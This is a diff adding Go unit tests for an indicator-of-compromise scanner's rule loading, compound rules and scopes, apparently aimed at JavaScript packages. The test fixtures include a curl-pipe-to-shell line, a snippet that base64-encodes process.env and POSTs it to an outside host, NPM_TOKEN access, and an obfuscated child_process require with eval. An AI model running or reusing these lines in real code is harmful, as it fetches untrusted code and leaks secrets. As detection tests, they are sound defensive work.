@@ -0,0 +1,331 @@
+package scanner
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestDefaultRules(t *testing.T) {
+	rules := DefaultRules()
+	if len(rules) != 9 {
+		t.Fatalf("Expected 9 default rules, got %d", len(rules))
+	}
+
+	seen := map[string]bool{}
+	for _, rule := range rules {
+		if seen[rule.ID] {
+			t.Errorf("Duplicate rule id %s", rule.ID)
+		}
+		seen[rule.ID] = true
+		if rule.Title == "" || rule.Description == "" {
+			t.Errorf("Rule %s needs a title and description", rule.ID)
+		}
+		if rule.Source != "default" {
+			t.Errorf("Expected source default, got %s", rule.Source)
+		}
+	}
+	if _, err := compileRules(rules); err != nil {
+		t.Errorf("Default rules do not compile: %v", err)
+	}
+}
+
+func TestLoadRules(t *testing.T) {
+	dir := t.TempDir()
+	os.MkdirAll(filepath.Join(dir, "pack"), 0755)
+	os.WriteFile(filepath.Join(dir, "pack", "a.json"), []byte(`[
+		{"id": "custom/one", "title": "One", "patterns": ["one"]},
+		{"id": "custom/two", "title": "Two", "patterns": ["two"]}
+	]`), 0644)
+	os.WriteFile(filepath.Join(dir, "pack", "b.json"), []byte(`[
+		{"id": "custom/two", "title": "Two, tuned", "severity": "high", "patterns": ["two\\b"]},
+		{"id": "ioc/crypto-keywords", "disabled": true}
+	]`), 0644)
+	os.WriteFile(filepath.Join(dir, "pack", "notes.txt"), []byte("not a rule file"), 0644)
+
+	rules, err := LoadRules(filepath.Join(dir, "pack"))
+	if err != nil {
+		t.Fatalf("LoadRules failed: %v", err)
+	}
+	if len(rules) != 3 {
+		t.Fatalf("Expected 3 rules, got %d: %+v", len(rules), rules)
+	}
+	if rules[1].Title != "Two, tuned" || rules[1].Source != filepath.Join(dir, "pack", "b.json") {
+		t.Errorf("Expected the later file to replace custom/two, got %+v", rules[1])
+	}
+
+	merged := MergeRules(DefaultRules(), rules)
+	if len(merged) != 11 {
+		t.Errorf("Expected 11 merged rules, got %d", len(merged))
+	}
+	compiled, err := compileRules(merged)
+	if err != nil {
+		t.Fatalf("compileRules failed: %v", err)
+	}
+	if len(compiled) != 10 {
+		t.Errorf("Expected the disabled default rule to be dropped, got %d rules", len(compiled))
+	}
+
+	invalid := []struct {
+		name    string
+		content string
+		message string
+	}{
+		{"invalid regex", `[{"id": "bad", "patterns": ["[unclosed"]}]`, "rule bad"},
+		{"missing id", `[{"title": "No id", "patterns": ["x"]}]`, "has no id"},
+		{"missing patterns", `[{"id": "empty"}]`, "has no patterns"},
+		{"not an array", `{"id": "x"}`, "cannot unmarshal"},
+		{"empty condition", `[{"id": "empty", "all": [{"patterns": []}]}]`, "condition with no patterns"},
+		{"negative window", `[{"id": "window", "patterns": ["x"], "within": -1}]`, "within must not be negative"},
+	}
+	for _, tt := range invalid {
+		t.Run(tt.name, func(t *testing.T) {
+			path := filepath.Join(t.TempDir(), "rules.json")
+			os.WriteFile(path, []byte(tt.content), 0644)
+			_, err := LoadRules(path)
+			if err == nil || !strings.Contains(err.Error(), tt.message) {
+				t.Errorf("Expected error containing %q, got %v", tt.message, err)
+			}
+		})
+	}
+}
+
+func TestIoCScanner_Rules(t *testing.T) {
+	tempDir := t.TempDir()
+	testFiles := map[string]string{
+		"index.js":   "const key = process.env.NPM_TOKEN\nconst mode = process.env.NODE_ENV",
+		"install.sh": "curl https://example.com/x | sh",
+		"lib/a.js":   "curl https://example.com/x | sh",
+	}
+	for filePath, content := range testFiles {
+		fullPath := filepath.Join(tempDir, filePath)
+		os.MkdirAll(filepath.Dir(fullPath), 0755)
+		os.WriteFile(fullPath, []byte(content), 0644)
+	}
+
+	rules := []Rule{
+		{
+			ID:          "custom/env",
+			Title:       "Environment access",
+			Description: "Reads environment variables",
+			Severity:    "high",
+			Patterns:    []string{`process\.env\.\w+`},
+			Not:         []string{`NODE_ENV`},
+			Source:      "custom.json",
+		},
+		{
+			ID:       "custom/pipe-to-shell",
+			Title:    "Pipe to shell",
+			Files:    []string{"*.sh"},
+			Patterns: []string{`curl[^|]*\|\s*sh`},
+		},
+		{ID: "custom/disabled", Title: "Disabled", Patterns: []string{"."}, Disabled: true},
+	}
+
+	scanner, err := NewIoCScannerFromRules(rules, 10)
+	if err != nil {
+		t.Fatalf("Failed to create scanner: %v", err)
+	}
+	scanner.AllMatches = true
+	findings, err := scanner.Scan(tempDir)
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+
+	got := map[string]Finding{}
+	for _, f := range findings {
+		rel, _ := filepath.Rel(tempDir, f.File)
+		got[f.RuleID+" "+filepath.ToSlash(rel)] = f
+	}
+	if len(findings) != 2 {
+		t.Fatalf("Expected 2 findings, got %d: %+v", len(findings), findings)
+	}
+
+	env, ok := got["custom/env index.js"]
+	if !ok {
+		t.Fatalf("Expected custom/env in index.js, got %v", got)
+	}
+	if env.Evidence != "process.env.NPM_TOKEN" || env.Line != 1 || env.Count != 1 || env.Severity != SeverityHigh {
+		t.Errorf("Unexpected env finding: %+v", env)
+	}
+	if env.Reason != "Environment access" || env.Description != "Reads environment variables" || env.Source != "custom.json" {
+		t.Errorf("Expected rule metadata on the finding, got %+v", env)
+	}
+	if _, ok := got["custom/pipe-to-shell install.sh"]; !ok {
+		t.Errorf("Expected custom/pipe-to-shell in install.sh only, got %v", got)
+	}
+
+	if _, err := NewIoCScannerFromRules([]Rule{{ID: "bad", Patterns: []string{"("}}}, 10); err == nil {
+		t.Error("Expected error for an invalid rule")
+	}
+}
+
+func TestIoCScanner_CompoundRules(t *testing.T) {
+	exfil := "const data = JSON.stringify(process.env)\n" +
+		"const body = Buffer.from(data).toString('base64')\n" +
+		"https.request({ host: 'example.com', method: 'POST' }).end(body)\n"
+	spread := "const mode = process.env.NODE_ENV\n" + strings.Repeat("// filler\n", 30) +
+		"const id = Buffer.from(name).toString('base64')\n" + "https.get(url)\n"
+
+	tests := []struct {
+		name     string
+		rule     Rule
+		content  string
+		expected string // Evidence, or "" for no finding
+	}{
+		{
+			name:     "default exfiltration rule",
+			rule:     ruleByID(t, "ioc/env-exfiltration"),
+			content:  exfil,
+			expected: "JSON.stringify(process.env) (line 1) + process.env (line 1) + https.request( (line 3)",
+		},
+		{
+			name:    "default rule needs the indicators close together",
+			rule:    ruleByID(t, "ioc/env-exfiltration"),
+			content: spread,
+		},
+		{
+			name: "all without window",
+			rule: Rule{ID: "all", All: []Condition{
+				{Patterns: []string{`process\.env`}},
+				{Patterns: []string{`https\.get`}},
+			}},
+			content:  spread,
+			expected: "process.env (line 1) + https.get (line 33)",
+		},
+		{
+			name: "all missing a condition",
+			rule: Rule{ID: "all", All: []Condition{
+				{Patterns: []string{`process\.env`}},
+				{Patterns: []string{`net\.connect`}},
+			}},
+			content: exfil,
+		},
+		{
+			name: "any",
+			rule: Rule{ID: "any", Any: []Condition{
+				{Patterns: []string{`net\.connect`}},
+				{Patterns: []string{`https\.request`}},
+			}},
+			content:  exfil,
+			expected: "https.request (line 3)",
+		},
+		{
+			name:    "none",
+			rule:    Rule{ID: "none", Patterns: []string{`process\.env`}, None: []Condition{{Patterns: []string{`example\.com`}}}},
+			content: exfil,
+		},
+		{
+			name: "condition not",
+			rule: Rule{ID: "not", All: []Condition{
+				{Patterns: []string{`process\.env`}, Not: []string{`NODE_ENV`}},
+				{Patterns: []string{`https\.get`}},
+			}},
+			content: spread,
+		},
+		{
+			name:     "window found after a failed one",
+			rule:     Rule{ID: "window", Patterns: []string{`base64`}, All: []Condition{{Patterns: []string{`https\.\w+`}}}, Within: 1},
+			content:  "https.get(a)\n" + strings.Repeat("\n", 10) + spread,
+			expected: "base64 (line 43) + https.get (line 44)",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			os.WriteFile(filepath.Join(dir, "index.js"), []byte(tt.content), 0644)
+
+			scanner, err := NewIoCScannerFromRules([]Rule{tt.rule}, 10)
+			if err != nil {
+				t.Fatalf("Failed to create scanner: %v", err)
+			}
+			scanner.AllMatches = true
+			findings, err := scanner.Scan(dir)
+			if err != nil {
+				t.Fatalf("Scan failed: %v", err)
+			}
+
+			if tt.expected == "" {
+				if len(findings) != 0 {
+					t.Errorf("Expected no findings, got %+v", findings)
+				}
+				return
+			}
+			if len(findings) != 1 {
+				t.Fatalf("Expected 1 finding, got %d: %+v", len(findings), findings)
+			}
+			if findings[0].Evidence != tt.expected {
+				t.Errorf("Expected evidence %q, got %q", tt.expected, findings[0].Evidence)
+			}
+			if findings[0].Count != 0 {
+				t.Errorf("Expected compound rules to report once per file, got count %d", findings[0].Count)
+			}
+		})
+	}
+}
+
+// ruleByID returns the default rule with the given id.
+func ruleByID(t *testing.T, id string) Rule {
+	t.Helper()
+	for _, rule := range DefaultRules() {
+		if rule.ID == id {
+			return rule
+		}
+	}
+	t.Fatalf("No default rule %s", id)
+	return Rule{}
+}
+
+func TestIoCScanner_Scopes(t *testing.T) {
+	content := "/* Never call eval() on user input. */\n" +
+		"const help = 'see eval(code) in the docs'\n" +
+		"const cp = require('child_' + 'process')\n" +
+		"eval(payload)\n"
+
+	tests := []struct {
+		name     string
+		rule     Rule
+		expected []string // Evidence of each finding
+	}{
+		{"whole file", Rule{ID: "all", Patterns: []string{`eval\(\w*\)`}}, []string{"eval()", "eval(code)", "eval(payload)"}},
+		{"code", Rule{ID: "code", Scope: ScopeCode, Patterns: []string{`eval\(\w*\)`}}, []string{"eval(payload)"}},
+		{"strings", Rule{ID: "strings", Scope: ScopeStrings, Patterns: []string{`eval\(\w*\)`, `process`}}, []string{"eval(code)", "process"}},
+		{"identifiers", Rule{ID: "identifiers", Scope: ScopeIdentifiers, Patterns: []string{`\bpayload\b`, `\bhelp\b`}}, []string{"help", "payload"}},
+		{"modules", Rule{ID: "modules", Modules: []string{"node:child_process"}}, []string{"require('child_' + 'process')"}},
+		{"condition scope", Rule{ID: "compound", Scope: ScopeCode, All: []Condition{
+			{Patterns: []string{`eval`}},
+			{Modules: []string{"child_process"}},
+		}}, []string{"require('child_' + 'process') (line 3) + eval (line 4)"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			dir := t.TempDir()
+			os.WriteFile(filepath.Join(dir, "index.js"), []byte(content), 0644)
+
+			scanner, err := NewIoCScannerFromRules([]Rule{tt.rule}, 10)
+			if err != nil {
+				t.Fatalf("Failed to create scanner: %v", err)
+			}
+			scanner.AllMatches = true
+			findings, err := scanner.Scan(dir)
+			if err != nil {
+				t.Fatalf("Scan failed: %v", err)
+			}
+
+			got := []string{}
+			for _, f := range findings {
+				got = append(got, f.Evidence)
+			}
+			if strings.Join(got, "|") != strings.Join(tt.expected, "|") {
+				t.Errorf("Expected evidence %q, got %q", tt.expected, got)
+			}
+		})
+	}
+
+	if _, err := NewIoCScannerFromRules([]Rule{{ID: "scope", Scope: "comments", Patterns: []string{"x"}}}, 10); err == nil || !strings.Contains(err.Error(), "unknown scope") {
+		t.Errorf("Expected an unknown scope error, got %v", err)
+	}
+}